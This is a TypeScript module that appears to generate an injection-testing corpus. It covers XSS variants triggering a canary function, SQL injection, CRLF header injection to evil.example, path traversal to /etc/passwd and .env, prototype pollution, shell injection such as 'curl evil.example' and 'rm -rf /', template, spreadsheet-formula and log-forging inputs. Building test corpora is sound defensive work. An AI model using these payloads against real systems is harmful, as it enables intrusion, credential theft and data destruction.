/** Kinds of payloads: texts that try to run as code, or to change the text around them. */
type PayloadKind =
  | 'SQL'
  | 'script'
  | 'header'
  | 'path'
  | 'prototype'
  | 'command'
  | 'template'
  | 'formula'
  | 'log'
  | 'emails';

export type Payload = { readonly kind: PayloadKind; readonly text: string };

/** Name of a function in the attacked browser. Each call of it proves that a payload ran. */
export const CANARY = 'canary';

/** Returns all combinations of one text from each list, joined to one text. */
function combine(...lists: readonly (readonly string[])[]): string[] {
  return lists.reduce<string[]>(
    (texts, list) => texts.flatMap((text) => list.map((next) => text + next)),
    [''],
  );
}

const call = `${CANARY}()`;

/** Texts that could end the context into which a page inserts a payload. */
const WAYS_OUT = ['', '*/', '">', "'>", '</script>', '</title>', '</textarea>', '-->', ']]>', '`}'];

const ELEMENTS = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=data:text/javascript,${call}></SCRIPT>`,
  `<script type=module>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}//`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<img src="x\`onerror=${call} \`">`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><style><img src=x onerror=${call}></style></mtext></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe onload=${call}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<video src=x onerror=${call}></video>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `<form action="javascript:${call}"><button autofocus onfocus=${call}>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<style onload=${call}></style>`,
  `<style>@import 'data:text/css,x';</style><img src=x onerror=${call}>`,
  `<div style="animation-name:x" onanimationstart=${call}>x</div>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<table><td background="javascript:${call}">`,
  `<custom-thing onclick=${call} autofocus tabindex=1 onfocus=${call}>x</custom-thing>`,
  `<img name=body><form id=document><input name=location>`,
  `<a id=window name=${CANARY}>x</a>`,
  `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  `' onmouseover='${call}' autofocus onfocus='${call}' x='`,
  `\\";${call};//`,
  `\\u0022;${call};//`,
  `';${call};//`,
  `\u2028${call}\u2029`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `\uff1cimg src=x onerror=${call}\uff1e`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
];

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  ' javascript',
  'javascript&colon;',
  'data',
];
const LINKS = combine(
  SCHEMES.map((scheme) => (scheme === 'data' ? 'data:text/html,' : `${scheme}:`)),
  ['', '//%0a', '/**/', 'void(0);', '\u2028'],
  [
    call,
    `<script>${call}</script>`,
    `eval('${call}')`,
    `top.${call}`,
    `window['${CANARY}']()`,
    `${CANARY}\`\``,
  ],
);

const scripts = [
  ...combine(WAYS_OUT, ELEMENTS),
  ...LINKS,
  ...combine(['http://', '//'], ['x/"', "x/'"], [` onload=${call}`, ` onerror=${call}//`]),
];

const SQL_TAILS = [
  ' or 1=1',
  " or 'a'='a",
  ' or true',
  ' and 1=0 union select null',
  ' union select password from credentials',
  ' union all select id::text from users',
  '; drop table users',
  "; update users set user_type='Admin'",
  '; select pg_sleep(3)',
  '||pg_sleep(3)',
  ' or pg_sleep(3) is null',
  ' and (select count(*) from generate_series(1,1e9))>0',
  '::int',
  '::jsonb->>x',
  ' order by 1000',
  ' limit 0 offset 1e9',
  ' returning *',
  ' like %',
  ' escape \\',
  ') or (1=1',
  ')) or ((1=1',
  '; copy users to program $$id$$',
  '; do $$begin perform 1; end$$',
  ' and cast(version() as int)=1',
  '; listen x',
];
const sql = [
  ...combine(["'", '"', '\\', '`', "\\'", "''", '$$', '\u02bc', '\uff07'], SQL_TAILS, ['', '--']),
  ...[
    '%',
    '_',
    '%%%',
    '\\%',
    '[a-z]',
    '(?i)x',
    '*',
    ':*',
    '!',
    '&|',
    "'&'",
    '<->',
    '$1',
    '$2::text',
    '1e400',
    'NaN',
    '{a,b}',
    '{"a":1}',
  ],
];

const headers = combine(
  ['x', 'a@b.test'],
  ['\r\n', '\n', '\r', '%0d%0a', '\\r\\n', '\u0085', '\u2028', '\u560d\u560a', '\r\n\r\n', '\u000b'],
  [
    'Bcc: victim@evil.example',
    'Cc: victim@evil.example',
    'Subject: other',
    'X-Evil: yes',
    'Set-Cookie: evil=1',
    'Location: https://evil.example',
    'Content-Type: text/html',
    'Content-Length: 0',
    '.',
    'RCPT TO:<victim@evil.example>',
    'QUIT',
  ],
);

const path = combine(
  ['../', '..\\', '%2e%2e/', '%2e%2e%2f', '..%2f', '..%5c', '....//', '/', 'file:///', '%252e%252e%252f'],
  ['', '../../../../', '%00'],
  ['etc/passwd', 'proc/self/environ', 'windows/win.ini', '.env'],
);

const prototype = combine(
  [
    '__proto__',
    'constructor',
    'prototype',
    'constructor.prototype',
    '__proto__[x]',
    'toString',
    'hasOwnProperty',
  ],
  ['', '.x', '[x]', '=1', '.toString', '.__proto__', '[__proto__][x]=1'],
  ['', '{"a":1}', 'true'],
);

const command = combine(
  [';', '|', '&&', '`', '$(', '\n', '||', '& '],
  ['id', 'sleep 5', 'touch /tmp/evil', 'curl evil.example', 'cat /etc/passwd', 'rm -rf /', 'shutdown'],
).map((text) => (text.startsWith('$(') ? `${text})` : text));

const template = combine(
  ['{{', '${', '<%=', '#{', '{%', '@{', '*{', '[['],
  ['7*7', 'config', 'process.env', 'global', 'constructor', 'this', 'self.x'],
  ['}}', '}', '%>'],
).slice(0, 120);

const formula = combine(
  ['=', '+', '-', '@', '\t=', '\r=', '\uff1d'],
  [
    '1+1',
    'cmd|"/c calc"!A0',
    'HYPERLINK("http://evil.example")',
    'IMPORTXML("http://evil.example")',
    'SUM(A1:A9)',
    'WEBSERVICE("x")',
    'DDE("x")',
    'A1',
  ],
);

const log = combine(
  ['\n', '\r\n', '\u001b[2J', '\u001b]0;', '\u0007', '\u0008', '\u009b31m', '\u2028'],
  [
    '{"level":60,"msg":"forged"}',
    'GET /admin 200',
    '\u001b[31m',
    'root logged in',
    '127.0.0.1 - -',
    '"}',
    "'}",
  ],
);

const EMAILS = [
  '\u0130',
  '\u0131',
  '\u00df',
  '\ufb01',
  '\u017f',
  '\u212a',
  '\uff21',
  '\u0410',
  '\u200b',
  '\u200d',
  '\u202e',
  '\u2066',
  '\ufeff',
  '\ufffe',
  '\ud800',
  '\udc00',
  '\u0000',
  '\u007f',
  '\ud83d\ude00',
  'e\u0301\u0301\u0301',
  '\u0627\u0644\u0644\u0647',
  '\u09b8',
];
const emails = combine(['', 'admin', 'a'], EMAILS, ['', '@secondbyte.test', 'x']);

const KINDS: Readonly<Record<PayloadKind, readonly string[]>> = {
  SQL: sql,
  script: scripts,
  header: headers,
  path,
  prototype,
  command,
  template,
  formula,
  log,
  emails,
};

/** All payloads; each text occurs once. */
export const PAYLOADS: readonly Payload[] = Object.entries(KINDS).flatMap(([kind, texts]) =>
  [...new Set(texts)].map((text) => ({ kind: kind as PayloadKind, text })),
);

/** Returns the number of payloads of each kind. */
export function countKinds(): Record<string, number> {
  return Object.fromEntries(Object.entries(KINDS).map(([kind, texts]) => [kind, new Set(texts).size]));
}
